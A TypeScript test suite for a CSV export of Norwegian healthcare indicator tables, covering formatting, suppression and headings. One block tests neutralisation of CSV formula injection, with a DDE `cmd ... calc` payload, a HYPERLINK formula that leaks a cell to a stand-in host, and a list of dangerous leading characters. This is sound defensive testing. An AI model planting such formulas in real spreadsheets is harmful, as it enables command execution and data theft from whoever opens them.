import { indicatorsCsv } from './indicators-csv';
import type { IndicatorRow, IndicatorTable } from '@lagspill/contracts';

const row: IndicatorRow = {
  start: '2026-03-02T00:00:00.000Z',
  end: '2026-03-09T00:00:00.000Z',
  group: 'lovesa',
  label: 'Lofoten; "Vesterålen" og Salten',
  suppressed: false,
  cases: 12,
  reported: 8,
  resolved: 5,
  open: 7,
  backlogAgeP50Hours: 30.25,
  backlogAgeP90Hours: 100.5,
  firstResponseP50Hours: 2.5,
  firstResponseP90Hours: 7,
  resolutionP50Hours: null,
  resolutionP90Hours: null,
  slaBreached: 1,
  reopened: 0,
  paperMultidoseShare: 0.375,
  multiplePatientsShare: 0.125,
  bothMultidoseShare: 0.25,
  fragmentedList: 3,
  fragmentedListShare: 0.375,
  harmful: 6,
  harmfulNotified: 1,
  harmfulWillNotify: 2,
  harmfulNotNotified: 0,
  harmfulNotStated: 3,
};
const COLUMN_COUNT = 27;
const table: IndicatorTable = {
  from: '2026-03-01',
  to: '2026-03-08',
  interval: 'week',
  by: 'helsefellesskap',
  scope: 'all',
  asOf: null,
  rows: [row],
};

describe('indicators as CSV for Norwegian Excel', () => {
  const csv = indicatorsCsv(table);
  const [header, line] = csv.slice(1).split('\r\n');

  it('starts with a UTF-8 byte order mark and ends each line with CRLF', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(3);
  });

  it('separates fields by semicolons with Norwegian headings, one per figure', () => {
    expect(header.split(';')).toHaveLength(COLUMN_COUNT);
    expect(header).toContain('Åpne ved slutt');
    expect(line.split(';').slice(0, 3)).toEqual(['2026-03-02', '2026-03-09', 'lovesa']);
  });

  it('writes decimal commas, empty fields for missing figures, and quotes what needs quoting', () => {
    expect(line).toContain(';30,25;100,5;2,5;7;;;1;0;0,375;0,125');
    expect(line).toContain('"Lofoten; ""Vesterålen"" og Salten"');
  });

  it('ends with the multidose, fragmented-list and harm figures, each under its own heading', () => {
    const headings = header.split(';').slice(-8);
    expect(headings).toEqual([
      'Andel både papir og eMD',
      'Dobbeltregistrering/fragmentert liste',
      'Andel dobbeltregistrering/fragmentert liste',
      'Skade utover nestenhendelse',
      'Herav meldt uønsket hendelse',
      'Herav vil melde',
      'Herav ikke meldt',
      'Herav ikke oppgitt',
    ]);
    expect(line.split(';').slice(-8)).toEqual(['0,25', '3', '0,375', '6', '1', '2', '0', '3']);
  });

  it('leaves every figure of a suppressed row empty, the new ones too', () => {
    const hidden = Object.fromEntries(Object.keys(row).map((key) => [key, null]));
    const suppressed = { ...row, ...hidden, start: row.start, end: row.end, group: 'x', label: 'X', suppressed: true };
    const [, fields] = indicatorsCsv({ ...table, rows: [suppressed] })
      .slice(1)
      .split('\r\n');
    expect(fields.split(';').slice(4)).toEqual(['ja', ...Array.from({ length: COLUMN_COUNT - 5 }, () => '')]);
  });
});

/** The fields of each line as a spreadsheet reads them: `;` between, `"…"` quoting with `""` inside. */
function parseCsv(csv: string): string[][] {
  const lines: string[][] = [];
  let fields: string[] = [];
  let field = '';
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, '');
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted) {
      if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') {
      quoted = true;
    } else if (c === ';' || (c === '\r' && text[i + 1] === '\n')) {
      fields.push(field);
      field = '';
      if (c === '\r') {
        lines.push(fields);
        fields = [];
        i++;
      }
    } else {
      field += c;
    }
  }
  return lines;
}

describe('indicators as CSV: no formula from a name (OWASP CSV injection)', () => {
  // OWASP's list, then what this code adds as a precaution: the same after white space, and fullwidth.
  const dangerous = [
    ['=', 'equals sign'],
    ['+', 'plus sign'],
    ['-', 'hyphen-minus'],
    ['@', 'commercial at'],
    ['\t', 'tab (0x09)'],
    ['\r', 'carriage return (0x0D)'],
    [' =', 'space, then equals'],
    ['\n=', 'line feed, then equals'],
    ['\u00a0+', 'no-break space, then plus'],
    ['\uFF1D', 'fullwidth equals sign'],
    ['\uFF0B', 'fullwidth plus sign'],
    ['\uFF0D', 'fullwidth hyphen-minus'],
    ['\uFF20', 'fullwidth commercial at'],
  ];
  const withNames = (group: string, label: string): IndicatorTable => ({ ...table, rows: [{ ...row, group, label }] });

  it.each(dangerous)('neutralises a name that starts with %j (%s), in the group and the name', (start) => {
    const payload = `${start}HYPERLINK("https://example.invalid/?x="&A1;"Klikk")`;
    const [, fields] = parseCsv(indicatorsCsv(withNames(`${start}cmd|' /C calc'!A0`, payload)));
    expect(fields).toHaveLength(COLUMN_COUNT);
    expect(fields[2]).toBe(`'${start}cmd|' /C calc'!A0`);
    expect(fields[3]).toBe(`'${payload}`);
  });

  it('leaves ordinary names, and signs inside a name, as they are', () => {
    const [, fields] = parseCsv(indicatorsCsv(withNames('troms-og-ofoten', 'Helse Nord – 2 + 2 = 4 @ Bodø')));
    expect(fields.slice(2, 4)).toEqual(['troms-og-ofoten', 'Helse Nord – 2 + 2 = 4 @ Bodø']);
  });

  it('keeps numbers numbers, negative ones too', () => {
    const negative = { ...row, slaBreached: -3, backlogAgeP50Hours: -0.5 } as IndicatorRow;
    const [, fields] = parseCsv(indicatorsCsv({ ...table, rows: [negative] }));
    expect(fields[9]).toBe('-0,5');
    expect(fields[15]).toBe('-3');
  });
});

describe('indicators as CSV: the words of the web app', () => {
  const headings = indicatorsCsv({ ...table, rows: [] })
    .slice(1)
    .split('\r\n')[0]
    .split(';');

  it('calls a breach of a deadline «Fristbrudd», as the dashboard and the mail do, and nothing else', () => {
    expect(headings).toContain('Fristbrudd');
    expect(headings.filter((heading) => /\bSLA\b|brudd|overskred/i.test(heading))).toEqual(['Fristbrudd']);
  });

  it('writes units out: every duration is in «timer», none in an abbreviation', () => {
    const durations = headings.filter((heading) => /alder|svar|løsningstid/i.test(heading));
    expect(durations.length).toBeGreaterThan(0);
    for (const heading of durations) expect(heading).toMatch(/\(timer\)$/);
    expect(headings.filter((heading) => /\((t|h|d|min|døgn)\)/.test(heading))).toEqual([]);
  });
});
